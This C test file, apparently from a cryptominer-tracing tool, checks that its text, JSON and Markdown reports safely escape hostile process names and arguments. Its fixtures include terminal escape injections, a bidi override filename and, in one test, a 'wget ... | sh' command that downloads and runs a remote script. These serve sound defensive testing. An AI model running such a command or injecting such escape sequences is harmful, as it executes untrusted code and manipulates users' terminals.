/* Unit tests: lib/render_text.c, render_json.c, render_markdown.c on fixture
 * traces and on a hostile /proc tree written at run time. */
#include <check.h>
#include <cjson/cJSON.h>
#include <openssl/evp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "check_main.h"
#include "escape.h"
#include "fixture_trace.h"
#include "util.h"

#define CID "d4abb3cb95d078cd526b23b38d577ec82a5800dd8d9cd539bf49176657fab295"

static const char hostile_comm[] = "\033]0;pwned\007x\ny)";
static const char hostile_arg0[] = "\xff\xfe-bad\r";
static const char hostile_arg1[] = "\xe2\x80\xae"
                                   "exe.txt";
static const char hostile_arg2[] = "--url=stratum+tcp://x|y`z*_[a](b)";
static char long_arg[5001];

static void write_file(const char *path, const void *data, size_t len)
{
	FILE *f = fopen(path, "wb");

	ck_assert_ptr_nonnull(f);
	ck_assert_uint_eq(fwrite(data, 1, len, f), len);
	fclose(f);
}

/* Writes a one-process tree whose names are hostile; returns its root. */
static char *hostile_tree(void)
{
	static char root[] = "/tmp/mt-render-XXXXXX";
	char path[256];
	struct mti_buf b;

	ck_assert_ptr_nonnull(mkdtemp(root));
	snprintf(path, sizeof(path), "%s/stat", root);
	write_file(path, "btime 1795420000\n", 17);
	snprintf(path, sizeof(path), "%s/4242", root);
	mkdir(path, 0755);
	mti_buf_init(&b);
	mti_buf_printf(&b,
	               "4242 (%s) R 1 4242 4242 0 -1 4194560 1 0 0 0 500 3 0 0 20 0 1 0 900 "
	               "1000 10 0 0\n",
	               hostile_comm);
	snprintf(path, sizeof(path), "%s/4242/stat", root);
	write_file(path, b.data, b.len);
	mti_buf_reset(&b);
	memset(long_arg, 'A', sizeof(long_arg) - 1);
	mti_buf_append(&b, hostile_arg0, sizeof(hostile_arg0));
	mti_buf_append(&b, hostile_arg1, sizeof(hostile_arg1));
	mti_buf_append(&b, hostile_arg2, sizeof(hostile_arg2));
	mti_buf_append(&b, long_arg, sizeof(long_arg));
	snprintf(path, sizeof(path), "%s/4242/cmdline", root);
	write_file(path, b.data, b.len);
	mti_buf_free(&b);
	snprintf(path, sizeof(path), "%s/4242/status", root);
	write_file(path, "Uid:\t0\t0\t0\t0\nNSpid:\t4242\t7\n", 27);
	snprintf(path, sizeof(path), "%s/4242/cgroup", root);
	write_file(path, "0::/docker/" CID "\n", 11 + 64 + 1);
	snprintf(path, sizeof(path), "%s/4242/exe", root);
	ck_assert_int_eq(symlink("/tmp/a\nb\033[2J (deleted)", path), 0);
	return root;
}

static char *render(const struct mt_trace *t, int kind, enum mt_color color, unsigned width)
{
	struct mt_render_options ro = {color, width, true};
	char *out = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&out, &len);

	ck_assert_ptr_nonnull(f);
	if (kind == 0)
		ck_assert_int_eq(mt_render_text(t, &ro, f), MT_OK);
	else if (kind == 1)
		ck_assert_int_eq(mt_render_json(t, &ro, f), MT_OK);
	else
		ck_assert_int_eq(mt_render_markdown(t, &ro, f), MT_OK);
	fclose(f);
	return out;
}

static size_t unescaped_pipes(const char *line, size_t len)
{
	size_t i, n = 0;

	for (i = 0; i < len; i++)
		if (line[i] == '|' && (i == 0 || line[i - 1] != '\\'))
			n++;
	return n;
}

START_TEST(text_has_no_raw_control_bytes)
{
	char *root = hostile_tree();
	struct mt_trace *t = trace_tree(root, 4242);
	char *out = render(t, 0, MT_COLOR_NEVER, 0);
	const unsigned char *p;

	ck_assert_str_eq(t->chain[0].comm, "\033]0;pwned\007x\ny)");
	for (p = (const unsigned char *)out; *p; p++)
		ck_assert_msg(*p == '\n' || (*p >= 0x20 && *p != 0x7f),
		              "raw byte 0x%02x at offset %ld", *p, (long)((const char *)p - out));
	ck_assert_ptr_null(strstr(out, "\xe2\x80\xae"));
	ck_assert_ptr_nonnull(strstr(out, "\\e]0;pwned\\ax\\ny)"));
	ck_assert_ptr_nonnull(strstr(out, "\\xff\\xfe-bad\\r"));
	ck_assert_ptr_nonnull(strstr(out, "\\u{202e}exe.txt"));
	ck_assert_ptr_nonnull(strstr(out, "/tmp/a\\nb\\e[2J"));
	free(out);

	/* with colour, every ESC is one of ours: ESC [ digits/; m */
	out = render(t, 0, MT_COLOR_ALWAYS, 0);
	for (p = (const unsigned char *)out; *p; p++) {
		if (*p == 0x1b) {
			const unsigned char *q = p + 1;

			ck_assert_int_eq(*q, '[');
			for (q++; (*q >= '0' && *q <= '9') || *q == ';'; q++)
				;
			ck_assert_int_eq(*q, 'm');
		} else {
			ck_assert(*p == '\n' || (*p >= 0x20 && *p != 0x7f));
		}
	}
	free(out);
	mt_trace_free(t);
}
END_TEST

START_TEST(text_truncates_to_width)
{
	char *root = hostile_tree();
	struct mt_trace *t = trace_tree(root, 4242);
	char *out = render(t, 0, MT_COLOR_NEVER, 60), *line, *save = NULL;
	bool saw_target = false;

	for (line = strtok_r(out, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		if (!strstr(line, "4242") || !strstr(line, "target"))
			continue;
		saw_target = true;
		ck_assert_uint_le(mti_display_width(line, strlen(line)), 60);
		ck_assert(mti_str_ends(line, "\xe2\x80\xa6"));
	}
	ck_assert(saw_target);
	free(out);
	mt_trace_free(t);
}
END_TEST

static unsigned char *b64decode(const char *s, int *len)
{
	size_t l = strlen(s);
	unsigned char *out = malloc(l + 1);
	int n = EVP_DecodeBlock(out, (const unsigned char *)s, (int)l);

	while (l && s[l - 1] == '=') {
		n--;
		l--;
	}
	*len = n;
	return out;
}

START_TEST(json_is_valid_and_exact_bytes_recoverable)
{
	char *root = hostile_tree();
	struct mt_trace *t = trace_tree(root, 4242);
	char *out = render(t, 1, MT_COLOR_ALWAYS, 40);
	cJSON *doc, *p0, *argv, *b64;
	unsigned char *raw;
	int len;

	ck_assert(mti_utf8_valid(out, strlen(out)));
	ck_assert_ptr_null(strchr(out, 0x1b)); /* never colour in JSON */
	doc = cJSON_Parse(out);
	ck_assert_ptr_nonnull(doc);
	ck_assert_str_eq(cJSON_GetObjectItem(doc, "schema")->valuestring, "minertrace/1");
	p0 = cJSON_GetArrayItem(cJSON_GetObjectItem(doc, "chain"), 0);
	/* comm is valid UTF-8: the JSON string itself is exact */
	ck_assert_str_eq(cJSON_GetObjectItem(p0, "comm")->valuestring, hostile_comm);
	ck_assert_ptr_null(cJSON_GetObjectItem(p0, "comm_base64"));
	argv = cJSON_GetObjectItem(p0, "argv");
	b64 = cJSON_GetObjectItem(p0, "argv_base64");
	ck_assert_int_eq(cJSON_GetArraySize(argv), 4);
	ck_assert_ptr_nonnull(b64);
	ck_assert_str_eq(cJSON_GetArrayItem(argv, 0)->valuestring, "\\xff\\xfe-bad\r");
	raw = b64decode(cJSON_GetArrayItem(b64, 0)->valuestring, &len);
	ck_assert_int_eq(len, (int)strlen(hostile_arg0));
	ck_assert(memcmp(raw, hostile_arg0, (size_t)len) == 0);
	free(raw);
	ck_assert_str_eq(cJSON_GetArrayItem(argv, 1)->valuestring, hostile_arg1);
	/* JSON is never truncated */
	ck_assert_str_eq(cJSON_GetArrayItem(argv, 3)->valuestring, long_arg);
	ck_assert_str_eq(cJSON_GetObjectItem(cJSON_GetObjectItem(p0, "exe"), "path")->valuestring,
	                 "/tmp/a\nb\033[2J");
	ck_assert(cJSON_IsTrue(cJSON_GetObjectItem(cJSON_GetObjectItem(p0, "exe"), "deleted")));
	cJSON_Delete(doc);
	free(out);
	mt_trace_free(t);
}
END_TEST

START_TEST(markdown_table_stays_intact)
{
	char *root = hostile_tree();
	struct mt_trace *t = trace_tree(root, 4242);
	char *out = render(t, 2, MT_COLOR_NEVER, 0), *line, *save = NULL;
	size_t header_pipes = 0, rows = 0;
	bool in_chain = false;

	for (line = strtok_r(out, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		const unsigned char *p;

		for (p = (const unsigned char *)line; *p; p++)
			ck_assert(*p >= 0x20 && *p != 0x7f);
		if (mti_str_starts(line, "| PID | PID in container")) {
			header_pipes = unescaped_pipes(line, strlen(line));
			in_chain = true;
			continue;
		}
		if (in_chain && mti_str_starts(line, "|---"))
			continue;
		if (in_chain && line[0] == '|') {
			ck_assert_uint_eq(unescaped_pipes(line, strlen(line)), header_pipes);
			rows++;
		} else {
			in_chain = false;
		}
	}
	ck_assert_uint_eq(header_pipes, 9);
	ck_assert_uint_eq(rows, t->chain_len);
	free(out);
	mt_trace_free(t);
}
END_TEST

/* Replaces the target's argv with one argument. */
static void set_argv(struct mt_trace *t, const char *arg)
{
	size_t i;

	for (i = 0; i < t->chain[0].argc; i++)
		free(t->chain[0].argv[i]);
	t->chain[0].argv[0] = strdup(arg);
	t->chain[0].argc = 1;
}

START_TEST(markdown_command_line_exact)
{
	char *root = hostile_tree();
	struct mt_trace *t = trace_tree(root, 4242);
	char *md = render(t, 2, MT_COLOR_NEVER, 0);

	/* one backtick inside: a fence of two; the pipe escaped for the table,
	 * nothing else of the evidence changed; cut at 200 bytes */
	ck_assert_ptr_nonnull(strstr(md, "| ``\\xff\\xfe-bad\\r \\u{202e}exe.txt "
	                                 "--url=stratum+tcp://x\\|y`z*_[a](b) AAAA"));
	ck_assert_ptr_nonnull(strstr(md, "AAA...`` |"));
	free(md);
	set_argv(t, "/bin/sh -c wget -q -O - http://example.invalid/d.sh | sh");
	md = render(t, 2, MT_COLOR_NEVER, 0);
	ck_assert_ptr_nonnull(
	    strstr(md, "| `/bin/sh -c wget -q -O - http://example.invalid/d.sh \\| sh` |"));
	free(md);
	/* backticks at both ends and a run of two: a fence of three, padded */
	set_argv(t, "`id` ``x`` \\srv");
	md = render(t, 2, MT_COLOR_NEVER, 0);
	ck_assert_ptr_nonnull(strstr(md, "| ``` `id` ``x`` \\\\srv ``` |"));
	free(md);
	/* spaces at both ends survive: padded too */
	set_argv(t, " a ");
	md = render(t, 2, MT_COLOR_NEVER, 0);
	ck_assert_ptr_nonnull(strstr(md, "| `  a  ` |"));
	free(md);
	mt_trace_free(t);
}
END_TEST

START_TEST(fixture_trace_renders)
{
	struct mt_trace *t = trace_fixture("docker-v1-dropper", 4599);
	char *text = render(t, 0, MT_COLOR_NEVER, 0);
	char *json = render(t, 1, MT_COLOR_NEVER, 0);
	char *md = render(t, 2, MT_COLOR_NEVER, 0);
	cJSON *doc = cJSON_Parse(json), *c0;

	ck_assert_ptr_nonnull(strstr(text, "container d4abb3cb95d0"));
	ck_assert_ptr_nonnull(strstr(text, "container init"));
	ck_assert_ptr_nonnull(strstr(text, "Entry       init-tree"));
	ck_assert_ptr_nonnull(strstr(text, "/tmp/kdevtmpfsi (deleted)"));
	ck_assert_ptr_nonnull(doc);
	c0 = cJSON_GetArrayItem(cJSON_GetObjectItem(doc, "containers"), 0);
	ck_assert_str_eq(cJSON_GetObjectItem(c0, "id")->valuestring, CID);
	ck_assert_str_eq(cJSON_GetObjectItem(c0, "short_id")->valuestring, "d4abb3cb95d0");
	ck_assert_str_eq(
	    cJSON_GetObjectItem(cJSON_GetObjectItem(doc, "entry"), "kind")->valuestring,
	    "init-tree");
	ck_assert_ptr_nonnull(strstr(md, "**Summary** (introduced-process)"));
	ck_assert_ptr_nonnull(strstr(md, "docker stop"));
	cJSON_Delete(doc);
	free(text);
	free(json);
	free(md);
	mt_trace_free(t);
}
END_TEST

START_TEST(markdown_containment_per_runtime)
{
	struct mt_trace *t = trace_fixture("edge-k8s-containerd-v2", 930);
	char *md = render(t, 2, MT_COLOR_NEVER, 0);

	ck_assert_ptr_nonnull(strstr(md, "`crictl stop 4f6c1a3b2e9d && crictl rm 4f6c1a3b2e9d`"));
	ck_assert_ptr_nonnull(strstr(md, "Kubernetes pod"));
	ck_assert_ptr_null(strstr(md, "docker stop"));
	free(md);
	mt_trace_free(t);
	t = trace_fixture("edge-podman-v2", 810);
	md = render(t, 2, MT_COLOR_NEVER, 0);
	ck_assert_ptr_nonnull(strstr(md, "podman stop 4f6c1a3b2e9d && podman rm 4f6c1a3b2e9d"));
	ck_assert_ptr_nonnull(strstr(md, "The image itself carries the miner"));
	free(md);
	mt_trace_free(t);
}
END_TEST

START_TEST(not_found_renders)
{
	struct mt_trace *t = trace_fixture("docker-v1-dropper", 777);
	char *text = render(t, 0, MT_COLOR_NEVER, 0), *json = render(t, 1, MT_COLOR_NEVER, 0);
	cJSON *doc = cJSON_Parse(json);

	ck_assert_ptr_nonnull(strstr(text, "no such process"));
	ck_assert_str_eq(
	    cJSON_GetObjectItem(cJSON_GetObjectItem(doc, "target"), "status")->valuestring,
	    "not-found");
	ck_assert_int_eq(cJSON_GetArraySize(cJSON_GetObjectItem(doc, "chain")), 0);
	cJSON_Delete(doc);
	free(text);
	free(json);
	mt_trace_free(t);
}
END_TEST

START_TEST(write_errors_are_reported)
{
	struct mt_trace *t = trace_fixture("docker-v1-dropper", 4599);
	struct mt_render_options ro = {MT_COLOR_NEVER, 0, true};
	FILE *full = fopen("/dev/full", "w");

	ck_assert_ptr_nonnull(full);
	setvbuf(full, NULL, _IONBF, 0);
	ck_assert_int_eq(mt_render_text(t, &ro, full), MT_ERR_IO);
	ck_assert_int_eq(mt_render_json(t, &ro, full), MT_ERR_IO);
	ck_assert_int_eq(mt_render_markdown(t, &ro, full), MT_ERR_IO);
	fclose(full);
	mt_trace_free(t);
}
END_TEST

/* The display column where word starts in the header line. */
static size_t header_col(const char *header, const char *word)
{
	const char *p = strstr(header, word);

	ck_assert_ptr_nonnull(p);
	return mti_display_width(header, (size_t)(p - header));
}

/* The text of line from display column col on. */
static const char *at_col(const char *line, size_t col)
{
	return line + mti_prefix_for_width(line, strlen(line), col);
}

static char *render_scan(const struct mt_scan *scan, unsigned width)
{
	struct mt_render_options ro = {MT_COLOR_NEVER, width, true};
	char *out = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&out, &len);

	ck_assert_ptr_nonnull(f);
	ck_assert_int_eq(mt_render_scan_text(scan, &ro, f), MT_OK);
	fclose(f);
	return out;
}

START_TEST(scan_table_columns_stay_apart)
{
	static const char *const comms[] = {
	    "\033]0;x\007\tminer\001\002\003", "xmrig",
	    "\xe7\x9f\xbf\xe5\xb7\xa5\xe7\x9f\xbf\xe5\xb7\xa5\xe7\x9f\xbf", "worker"};
	static const char *const images[] = {
	    NULL, "registry.internal.example/billing-api:2.3", "metabase/metabase:v0.46.6",
	    "registry.internal.example/team/a-very-long-repository-name/billing-api:2.3.1-rc1"};
	/* unlimited; a terminal where the image column gives way to the
	 * reasons; one where it cannot go below its header's width */
	static const unsigned widths[] = {0, 120, 100};
	static const char *const long_image[] = {
	    "registry.internal.example/billing-api:2.3  ",
	    "registry.internal.example/bill\xe2\x80\xa6  cpu, miner-name",
	    "registry.internal.exampl\xe2\x80\xa6  cpu"};
	struct mt_engine_container ec[4];
	struct mt_container ct[4];
	struct mt_process proc[4];
	struct mt_trace tr[4];
	struct mt_signal sig[2] = {{"cpu", "", 30}, {"miner-name", "", 40}};
	struct mt_finding f[4];
	struct mt_scan scan;
	char id[4][65];
	size_t i, w;

	memset(&scan, 0, sizeof(scan));
	memset(f, 0, sizeof(f));
	for (i = 0; i < 4; i++) {
		memset(&ec[i], 0, sizeof(ec[i]));
		memset(&ct[i], 0, sizeof(ct[i]));
		memset(&proc[i], 0, sizeof(proc[i]));
		memset(&tr[i], 0, sizeof(tr[i]));
		snprintf(id[i], sizeof(id[i]), "%c%063d", (char)('a' + i), 0);
		ec[i].image_ref = (char *)images[i];
		ct[i].id = id[i];
		ct[i].engine = &ec[i];
		proc[i].container_index = images[i] ? 0 : -1;
		tr[i].chain = &proc[i];
		tr[i].chain_len = 1;
		tr[i].containers = &ct[i];
		tr[i].n_containers = 1;
		f[i].pid = 1000 + (pid_t)i;
		f[i].comm = (char *)comms[i];
		f[i].score = 70;
		f[i].cpu_core_percent = 99.5;
		f[i].signals = sig;
		f[i].n_signals = 2;
		f[i].trace = &tr[i];
	}
	scan.findings = f;
	scan.n_findings = 4;
	scan.min_score = 40;
	for (w = 0; w < MTI_ARRAY_LEN(widths); w++) {
		char *out = render_scan(&scan, widths[w]), *save = NULL, *line;
		size_t cols[3], rows = 0, k;
		const char *header = NULL;

		for (line = strtok_r(out, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
			if (strncmp(line, " SCORE", 6) == 0) {
				header = line;
				cols[0] = header_col(header, "CONTAINER");
				cols[1] = header_col(header, "IMAGE");
				cols[2] = header_col(header, "WHY");
				continue;
			}
			if (!header || rows == 4)
				continue;
			rows++;
			if (widths[w])
				ck_assert_uint_le(mti_display_width(line, strlen(line)), widths[w]);
			/* two spaces before every column, and the column's own text at it */
			for (k = 0; k < 3; k++) {
				ck_assert_msg(strncmp(at_col(line, cols[k] - 2), "  ", 2) == 0 &&
				                  *at_col(line, cols[k]) != ' ',
				              "width %u, column at %zu runs into its neighbour: %s",
				              widths[w], cols[k], line);
			}
			ck_assert(mti_str_starts(at_col(line, cols[2]), "cpu"));
			if (strstr(line, " xmrig "))
				ck_assert_msg(mti_str_starts(at_col(line, cols[1]), long_image[w]),
				              "width %u: %s", widths[w], line);
			if (strstr(line, "\\e]0;x"))
				ck_assert_msg(
				    mti_str_starts(at_col(line, header_col(header, "NAME")),
				                   "\\e]0;x\\a\\tminer\\x01\\x02\xe2\x80\xa6  "
				                   "host  "),
				    "%s", line);
			if (strstr(line, "worker"))
				ck_assert_ptr_nonnull(
				    strstr(at_col(line, cols[1]), "\xe2\x80\xa6  cpu"));
			if (strstr(line, "\xe5\xb7\xa5"))
				ck_assert_msg(
				    mti_str_starts(at_col(line, cols[0] - 2),
				                   "  c00000000000  metabase/metabase:v0.46.6  "),
				    "%s", line);
		}
		ck_assert_ptr_nonnull(header);
		ck_assert_uint_eq(rows, 4);
		free(out);
	}
}
END_TEST

static Suite *suite(void)
{
	Suite *s = suite_create("render");
	TCase *tc = tcase_create("core");

	tcase_add_test(tc, text_has_no_raw_control_bytes);
	tcase_add_test(tc, text_truncates_to_width);
	tcase_add_test(tc, json_is_valid_and_exact_bytes_recoverable);
	tcase_add_test(tc, markdown_table_stays_intact);
	tcase_add_test(tc, markdown_command_line_exact);
	tcase_add_test(tc, fixture_trace_renders);
	tcase_add_test(tc, markdown_containment_per_runtime);
	tcase_add_test(tc, not_found_renders);
	tcase_add_test(tc, write_errors_are_reported);
	tcase_add_test(tc, scan_table_columns_stay_apart);
	suite_add_tcase(s, tc);
	return s;
}

MT_CHECK_MAIN(suite)
